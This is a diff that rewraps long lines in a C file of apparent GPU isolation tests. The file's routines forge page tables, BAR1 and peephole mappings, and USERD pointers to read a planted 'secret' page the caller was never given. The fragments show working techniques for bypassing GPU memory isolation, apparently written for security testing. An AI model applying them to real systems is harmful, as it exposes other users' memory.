@@ -1,5 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-only
-/* Ways to all memory: the window in BAR0, forged page tables, BAR1, the peephole, the USERD pointer. */
+/*
+ * Ways to all memory: the window in BAR0, forged page tables, BAR1, the peephole, the USERD
+ * pointer.
+ */
 #include "attacks.h"
 
 #include <stdlib.h>
@@ -17,9 +20,12 @@
 enum { SECRET_BYTES = 1024, RUN_MS = 3000 };
 
 /* a channel on the first copy engine in a fresh space */
-static void open_channel(struct bare_gpu *g, struct bare_space *s, struct bare_chan *c, bool hce_priv)
+static void open_channel(struct bare_gpu *g, struct bare_space *s, struct bare_chan *c,
+			 bool hce_priv)
 {
-	struct bare_chan_config cfg = { .id = 3, .runlist = g->engine[BARE_CE0].runlist, .hce_priv = hce_priv };
+	struct bare_chan_config cfg = { .id = 3,
+					.runlist = g->engine[BARE_CE0].runlist,
+					.hce_priv = hce_priv };
 	uint32_t entry = cfg.id;
 
 	bare_space_create(g, s);
@@ -65,7 +71,11 @@ void attack_window(struct machine *m)
 /* page tables of our own, entries pointing at memory that was never given to us */
 void attack_tables(struct machine *m)
 {
-	enum { LOOT_VA = BARE_VA_FREE, SECRET_VA = BARE_VA_FREE + 0x1000, VRAM_VA = BARE_VA_FREE + 0x2000 };
+	enum {
+		LOOT_VA = BARE_VA_FREE,
+		SECRET_VA = BARE_VA_FREE + 0x1000,
+		VRAM_VA = BARE_VA_FREE + 0x2000
+	};
 	struct bare_gpu *g = &m->gpu;
 	struct bare_space s;
 	struct bare_chan c;
@@ -123,7 +133,8 @@ void attack_bar1(struct machine *m)
 	inst = forged_instance(g, &s);
 	bare_space_map(g, &s, BARE_VA_FREE, BARE_HOST, bus & ~4095ull);
 	bare_tlb_invalidate(g, BARE_VRAM, s.pdb);
-	bare_write(g, HOSTMEM_BAR1, HOSTMEM_VIRTUAL | FIELD_PREP(HOSTMEM_INST, inst >> HOSTMEM_INST_SHIFT));
+	bare_write(g, HOSTMEM_BAR1,
+		   HOSTMEM_VIRTUAL | FIELD_PREP(HOSTMEM_INST, inst >> HOSTMEM_INST_SHIFT));
 	bare_flush(g);
 	*(volatile uint32_t *)secret = 0x5ec2e700;
 	first = *seen;
@@ -149,7 +160,8 @@ void attack_peephole(struct machine *m)
 	bare_space_map(g, &s, BARE_VA_FREE, BARE_HOST, bus & ~4095ull);
 	bare_tlb_invalidate(g, BARE_VRAM, s.pdb);
 	*(volatile uint32_t *)(secret + 64) = 0x9e3779b9;
-	bare_write(g, HOSTMEM_PEEPHOLE, HOSTMEM_VIRTUAL | FIELD_PREP(HOSTMEM_INST, inst >> HOSTMEM_INST_SHIFT));
+	bare_write(g, HOSTMEM_PEEPHOLE,
+		   HOSTMEM_VIRTUAL | FIELD_PREP(HOSTMEM_INST, inst >> HOSTMEM_INST_SHIFT));
 	bare_write(g, PEEPHOLE_ADDR_HIGH, 0);
 	bare_write(g, PEEPHOLE_ADDR_LOW, BARE_VA_FREE + 64);
 	got = bare_read(g, PEEPHOLE_DATA);
@@ -167,8 +179,11 @@ void attack_userd(struct machine *m)
 	struct bare_gpu *g = &m->gpu;
 	uint64_t bus;
 	uint8_t *secret = secret_page(&bus);
-	struct bare_chan_config cfg = { .id = 9, .runlist = g->engine[BARE_CE0].runlist, .userd_forged = true,
-					.userd = bus & ~511ull, .userd_target = BARE_HOST };
+	struct bare_chan_config cfg = { .id = 9,
+					.runlist = g->engine[BARE_CE0].runlist,
+					.userd_forged = true,
+					.userd = bus & ~511ull,
+					.userd_target = BARE_HOST };
 	volatile uint32_t *written = (volatile uint32_t *)(secret + USERD_GP_GET);
 	uint32_t entry = cfg.id;
 	struct bare_space s;
